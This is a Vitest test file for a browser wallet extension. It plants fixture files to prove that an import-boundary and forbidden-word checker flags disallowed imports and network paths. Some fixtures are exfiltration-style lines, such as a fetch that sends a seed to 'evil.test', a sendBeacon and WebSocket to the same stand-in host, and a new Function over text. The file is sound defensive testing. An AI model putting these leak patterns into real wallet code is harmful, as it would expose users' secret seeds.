import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { checkBoundaries, checkImports, checkWords, sourceFiles } from './boundaries'

vi.setConfig({ testTimeout: 60_000 })

/** design.md 2, written down a second time on purpose: the rules must agree with it. */
const table: Record<string, string> = {
  units: '',
  platform: '',
  words: 'units',
  messaging: 'units',
  staking: 'units',
  requests: 'units',
  keyfiles: 'units',
  explain: 'units staking',
  storage: 'platform units',
  vault: 'storage keyfiles units',
  chain: 'storage units',
  accounts: 'storage units',
  sites: 'storage units',
  activity: 'storage units',
  history: 'storage units',
  watch: 'storage units',
  settings: 'storage units',
  background:
    'vault keyfiles chain storage accounts sites activity history watch settings explain requests staking messaging units words platform',
  ui: 'units',
  import: 'keyfiles messaging popup ui words units platform',
  popup: 'ui words messaging units platform',
  content: '',
  inpage: '',
}
const rooms = Object.keys(table)
const mayImport = (room: string, other: string) => (table[room] ?? '').split(' ').includes(other)

/** Other things that must go red: a file, what stands in it, and what the finding says. */
const planted: [file: string, code: string, finding: string][] = [
  ['src/popup/planted-worker.ts', `export const worker = new Worker(new URL('./x.ts', import.meta.url))`, 'names a worker'],
  ['src/vault/planted-worker.ts', `export const worker = () => new globalThis.Worker('x')`, 'names a worker'],
  ['src/background/planted-socket.ts', `export const socket = () => new WebSocket('wss://evil.test')`, 'names WebSocket'],
  ['src/vault/planted-fetch.ts', `export const leak = (seed: string) => fetch('https://evil.test/' + seed)`, 'names fetch'],
  ['src/popup/planted-fetch.ts', `export const leak = () => globalThis['fetch']('https://evil.test/')`, 'names fetch'],
  ['src/popup/planted-beacon.ts', `export const leak = () => navigator.sendBeacon('https://evil.test/')`, 'names another way out'],
  ['src/explain/planted-eval.ts', `export const run = (text: string) => new Function(text)`, 'names code from text'],
  [
    'src/accounts/planted-keyring.ts',
    `import { Keyring } from '@polkadot/keyring'\nexport const ring = new Keyring()`,
    'keys-live-in-the-vault',
  ],
  [
    'src/popup/planted-hash.ts',
    `import { argon2id } from 'hash-wasm'\nexport const hash = argon2id`,
    'only-the-vault-derives-keys-from-passwords',
  ],
  ['src/chain/planted-polyfill.ts', `import browser from 'webextension-polyfill'\nexport const b = browser`, 'one-file-names-the-polyfill'],
  [
    'src/platform/planted-polyfill.ts',
    `import browser from 'webextension-polyfill'\nexport const b = browser`,
    'one-file-names-the-polyfill',
  ],
  [
    'src/popup/planted-papi.ts',
    `import { compact } from '@polkadot-api/substrate-bindings'\nexport const c = compact`,
    'only-chain-and-explain-name-polkadot-api',
  ],
  ['src/vault/planted-react.ts', `import { createElement } from 'react'\nexport const e = createElement`, 'react-draws-and-nothing-else'],
  [
    'src/inpage/planted-package.ts',
    `import { blake2b } from '@noble/hashes/blake2.js'\nexport const b = blake2b`,
    'page-side-carries-no-package',
  ],
  ['src/chain/planted-oracle.ts', `import { ApiPromise } from '@polkadot/api'\nexport const api = ApiPromise`, 'ships-no-tool'],
  ['src/chain/planted-node.ts', `import { readFileSync } from 'node:fs'\nexport const read = readFileSync`, 'ships-no-tool'],
  ['src/units/planted-loop-a.ts', `import { b } from './planted-loop-b'\nexport const a: unknown = b`, 'no-circles'],
  ['src/background/planted-deep.ts', `import { deep } from '../vault/planted-inside'\nexport const d = deep`, 'only-the-door'],
  ['src/popup/planted-code.ts', `import { planted } from '../explain/planted-door'\nexport const p = planted`, 'only-the-door'],
  ['src/popup/planted-value.ts', `import { planted } from '../requests'\nexport const p = planted`, 'popup-takes-only-types'],
  ['src/units/planted-test-import.ts', `import { x } from './planted.test'\nexport const y = x`, 'ships-no-test'],
  ['src/nowhere/planted.ts', `import { planted } from '../units'\nexport const p = planted`, 'unknown-room'],
  ['e2e/localnet/planted.ts', `import { planted } from '../../src/vault'\nexport const p = planted`, 'the-chain-is-not-its-own-witness'],
]
/** What the planted files need, and what must stay green. */
const partner: [file: string, code: string] = [
  'src/units/planted-loop-b.ts',
  `import { a } from './planted-loop-a'\nexport const b: unknown = a`,
]
const innocent: [file: string, code: string][] = [
  ['src/vault/planted-inside.ts', 'export const deep = 1'],
  ['src/explain/planted-door.ts', 'export const planted = 1'],
  ['src/units/planted.test.ts', 'export const x = 1'],
  ['src/popup/planted-type.ts', `import type { Planted } from '../explain'\nexport type P = Planted`],
  ['src/import/planted-worker.ts', `export const worker = () => new Worker(new URL('./w.ts', import.meta.url))`],
  ['src/chain/planted-socket.ts', `export const socket = () => new WebSocket('ws://127.0.0.1')`],
  ['src/sites/planted-fetch.ts', `export const list = () => fetch('https://list.test')`],
  ['src/units/planted-sentence.ts', '// A sentence about fetch( and new WebSocket( and new Worker( is no fetch.\nexport const none = 1'],
  ['src/content/planted-channel.ts', `import { PAGE_CHANNEL } from '../messaging/page-channel'\nexport const c = PAGE_CHANNEL`],
]

let copy: string
let findings: string[]

beforeAll(async () => {
  copy = await mkdtemp(join(tmpdir(), 'kluis-boundaries-'))
  const put = async (file: string, code: string) => {
    await mkdir(dirname(join(copy, file)), { recursive: true })
    await writeFile(join(copy, file), `${code}\n`)
  }
  for (const file of ['.dependency-cruiser.cjs', 'tsconfig.json', 'package.json']) await cp(file, join(copy, file))
  await symlink(join(process.cwd(), 'node_modules'), join(copy, 'node_modules'))
  await put('src/messaging/page-channel.ts', `export const PAGE_CHANNEL = 'kluis'`)
  for (const room of rooms) await put(`src/${room}/index.ts`, 'export const planted = 1\nexport type Planted = number')
  for (const room of rooms) {
    for (const other of rooms) {
      if (other !== room) await put(`src/${room}/planted-${other}.ts`, `import { planted } from '../${other}'\nexport const p = planted`)
    }
  }
  for (const [file, code] of [...planted, partner, ...innocent]) await put(file, code)
  const [imports, words] = await Promise.all([checkImports(copy), checkWords(copy)])
  findings = [...imports.wrong, ...words.wrong]
}, 60_000)
afterAll(() => rm(copy, { recursive: true, force: true }))

test('nothing in the tree crosses a boundary, and no file was overlooked', async () => {
  expect(await checkBoundaries(process.cwd())).toEqual([])
})

test('every file of src counts, and there are some', async () => {
  expect((await sourceFiles(process.cwd(), 'src')).length).toBeGreaterThan(50)
})

test('every import between two rooms is allowed exactly where the table allows it', () => {
  const wrong: string[] = []
  for (const room of rooms) {
    for (const other of rooms) {
      if (other === room) continue
      const file = `src/${room}/planted-${other}.ts`
      const red = findings.some(
        (each) => each.startsWith(`${file}: ${room}-imports-only`) || each.startsWith(`${file}: popup-takes-only-types`),
      )
      if (red === mayImport(room, other)) wrong.push(`${room} -> ${other} is ${red ? 'refused' : 'let through'}`)
    }
  }
  expect(wrong).toEqual([])
})

test.each(planted)('%s goes red', (file, _code, finding) => {
  expect(findings.filter((each) => each.startsWith(`${file}: `)).join('\n')).toContain(finding)
})

test.each(innocent)('%s stays green', (file) => {
  expect(findings.filter((each) => each.startsWith(`${file}: `))).toEqual([])
})

test('the rules name exactly the rooms of the table', async () => {
  const text = await readFile('.dependency-cruiser.cjs', 'utf8')
  for (const room of rooms) expect(text).toMatch(new RegExp(`^ {2}${room}: \\[`, 'm'))
})
